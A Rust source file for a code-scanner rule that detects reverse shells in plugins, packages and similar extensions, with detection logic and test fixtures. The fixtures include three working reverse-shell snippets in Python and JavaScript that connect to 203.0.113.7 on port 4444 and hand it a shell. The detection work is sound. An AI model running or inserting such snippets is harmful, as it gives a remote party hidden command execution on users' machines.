//! source-reverse-shell: a connection is joined to a shell.

use std::sync::LazyLock;

use super::source_calls::report_calls;
use crate::{FactSink, Rule, RuleMeta};
use capdex_evidence::code::sinks::{runs_shell, text_of};
use capdex_evidence::code::{Argument, Call, TaintSources};
use capdex_evidence::subject::Subject;
use capdex_model::fact::{Confidence, Severity};

/// See the file's first line.
pub(super) struct SourceReverseShell;

static META: LazyLock<RuleMeta> = LazyLock::new(|| toml::from_str(CARD).expect("the card is valid"));

const CARD: &str = r##"
id = "source-reverse-shell"
version = 1
title = "A shell is handed to whoever is on the other end"
why = "Whoever answers the connection runs commands as the user, unseen."
fix = "Remove it. A remote terminal that is meant needs its own login and its own name."
cannot_see = "Shells joined over several files; terminals of libraries that it does not know."
severity = "critical"
confidence = "high"
kinds = ["skill", "mcp_server", "hook", "plugin", "package"]
lifecycle = "stable"
cites = ["CWE-506", "AML.T0050", "owasp-mcp:MCP04"]
[codes]
spiderrating = ["TS-E004"]
[[examples.fires]]
note = "Duplicated descriptors."
[examples.fires.files]
"a.py" = '''
import os, socket, subprocess
s = socket.socket()
s.connect(("203.0.113.7", 4444))
os.dup2(s.fileno(), 0)
os.dup2(s.fileno(), 1)
subprocess.call(["/bin/sh", "-i"])
'''
[[examples.fires]]
note = "Pipes both ways."
[examples.fires.files]
"a.js" = '''
const net = require("net"), cp = require("child_process");
const sh = cp.spawn("/bin/sh", []);
const c = net.connect(4444, "203.0.113.7", () => { c.pipe(sh.stdin); sh.stdout.pipe(c); });'''
[[examples.fires]]
note = "Commands from a socket."
[examples.fires.files]
"a.py" = '''
import socket, subprocess
s = socket.create_connection(("203.0.113.7", 4444))
while True:
    command = s.recv(1024).decode()
    s.send(subprocess.check_output(command, shell=True))
'''
[[examples.silent]]
note = "A process whose output is kept."
[examples.silent.files]
"a.js" = '''
const cp = require("child_process"), fs = require("fs"); cp.spawn("ls").stdout.pipe(fs.createWriteStream("a"));'''
[[examples.silent]]
note = "Words over a socket."
[examples.silent.files]
"a.py" = '''
import socket
s = socket.create_connection(("db.test", 5432))
s.send(b"hello")
print(s.recv(10))
'''
"##;

impl Rule for SourceReverseShell {
    fn meta(&self) -> &RuleMeta {
        &META
    }

    fn check(&self, subject: &Subject<'_>, facts: &mut FactSink<'_>) {
        report_calls(subject, facts, |_, call| judgement(call));
    }
}

fn judgement(call: &Call) -> Option<(Severity, Confidence)> {
    let joined = TaintSources::CONNECTION;
    let found = match call.callee.as_str() {
        "os.dup2" => call.flows.first.any(joined),
        "connection.pipe" => call.flows.all().any(TaintSources::PROCESS),
        callee if callee.starts_with("subprocess.") || callee.starts_with("child_process.spawn") => {
            let shell = call.arguments.first().and_then(text_of).is_some_and(is_shell);
            (shell && call.flows.rest.any(joined)) || (runs_shell(call) && is_remote_command(call))
        }
        "os.system" | "os.popen" | "child_process.exec" | "child_process.execSync" => is_remote_command(call),
        _ => false,
    };
    found.then_some((Severity::Critical, Confidence::High))
}

/// Whether the whole command came out of a bare connection. Answers of a web client are `source-download-and-execute`.
fn is_remote_command(call: &Call) -> bool {
    let whole = matches!(call.arguments.first(), Some(Argument::Name(_) | Argument::Result(_) | Argument::Other));
    whole && call.flows.first.any(TaintSources::ANSWER) && call.flows.first.any(TaintSources::CONNECTION)
}

fn is_shell(text: &str) -> bool {
    let program = text.split_whitespace().next().unwrap_or_default();
    let name = program.rsplit(['/', '\\']).next().unwrap_or_default().trim_end_matches(".exe");
    matches!(name, "sh" | "bash" | "zsh" | "dash" | "cmd" | "powershell" | "pwsh")
}
